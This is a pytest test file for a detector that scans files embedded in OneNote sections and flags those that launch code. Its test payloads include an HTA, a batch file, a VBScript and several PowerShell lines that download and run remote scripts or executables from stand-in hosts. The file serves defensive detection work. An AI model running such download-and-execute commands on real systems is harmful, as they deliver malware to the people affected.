"""The files a OneNote section embeds (``detectors/uploads/onenote.py``), scanned as its members.

Found by probing: a ``.one`` section embedding an HTA that has PowerShell download and run a script
(2023's mail campaigns hid one under a "double-click to view" picture) was clean, the scan complete: the
section was read as one binary stream."""

from __future__ import annotations

import random

import pytest

from aup.detectors.uploads import onenote
from aup.detectors.uploads.scanner import ScanStatus
from aup.detectors.uploads.verdict import Verdict
from tests.eval import files as F
from tests.unit.uploads.test_containers_and_content import judge, rules_of

HTA = (
    b'<html><head><HTA:APPLICATION ID="x" WINDOWSTATE="minimize"/><script language="VBScript">'
    b'CreateObject("WScript.Shell").Run "powershell -w hidden -c iwr http://198.51.100.4/a.ps1|iex", 0'
    b"</script></head></html>"
)
BATCH = b"@echo off\r\ncurl -s -o %TEMP%\\a.exe http://198.51.100.4/a.exe\r\nstart /b %TEMP%\\a.exe\r\n"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(500)


def test_embedded_files_are_found_whole() -> None:
    files = [PNG, HTA, b"x" * 13]  # (lengths that are and are not multiples of 8)
    found, complete = onenote.embedded(F.onenote(files, "Double-click to view"), limit=1 << 20)
    assert complete and found == [(f"embedded-{k}", blob) for k, blob in enumerate(files)]


def test_a_length_past_the_section_is_cut_and_not_all_read() -> None:
    section = F.onenote([b"y" * 400])
    cut = section[: section.index(b"y" * 400) + 100]
    found, complete = onenote.embedded(cut, limit=1 << 20)
    assert found == [("embedded-0", b"y" * 100)] and not complete
    found, complete = onenote.embedded(section, limit=200)
    assert len(found[0][1]) == 200 and not complete


@pytest.mark.parametrize(
    "payload",
    [
        HTA,
        BATCH,
        F.pe(random.Random(3), 9000),
        F.shortcut(
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "-c iwr http://x.example/a|iex"
        ),
        b'Set s = CreateObject("WScript.Shell")\r\ns.Run "mshta http://x.example/a.hta", 0\r\n',
        b'powershell -w hidden -c "iwr https://x.example/a.ps1 | iex"\r\n',
    ],
)
def test_a_section_embedding_code_to_run_is_a_launch(payload: bytes) -> None:
    v, result, findings = judge(F.onenote([PNG, payload], "Double-click to view the invoice"), "invoice.one")
    assert v is Verdict.threat and rules_of(findings) == {"I3-script-in-document"}
    assert findings[0].confidence == 0.9 and result.status is ScanStatus.complete
    assert result.reports[0].type.label == "onenote"


def test_a_notebooks_documents_are_members_and_clean() -> None:
    files = [F.pdf("Meeting minutes"), PNG, F.office("xlsx", "Budget"), b"@echo off\r\necho backing up\r\n"]
    v, result, findings = judge(F.onenote(files, "Team meeting"), "meetings.one")
    assert v is Verdict.clean and not findings and result.status is ScanStatus.complete
    assert [r.path for r in result.reports if r.depth == 1][:4] == [f"!/embedded-{k}" for k in range(4)]


def test_what_a_notebook_embeds_is_scanned_like_any_member() -> None:
    v, _, findings = judge(F.onenote([F.cards_csv(random.Random(2))]), "customers.one")
    assert v is Verdict.violation and "W2-bulk-personal-data" in rules_of(findings)


def test_a_section_beyond_the_limits_is_never_clean() -> None:
    v, result, _ = judge(F.onenote([PNG] * (onenote.MAX_EMBEDDED + 1)), "many.one")
    assert v is not Verdict.clean and result.status is ScanStatus.too_large


def test_a_runbooks_installer_one_liner_is_a_review_not_a_launch() -> None:
    # a vendor's install one-liner in plain sight reads as a dropper's download does: an operator looks
    install = b"powershell -c \"iex ((New-Object Net.WebClient).DownloadString('https://community.example.org/install.ps1'))\""
    v, result, findings = judge(F.onenote([install], "Install the package manager"), "runbook.one")
    assert v is Verdict.review and findings[0].confidence == 0.7
    assert result.reports[0].active == {onenote.ONENOTE_EMBEDDED_SCRIPT: 1}
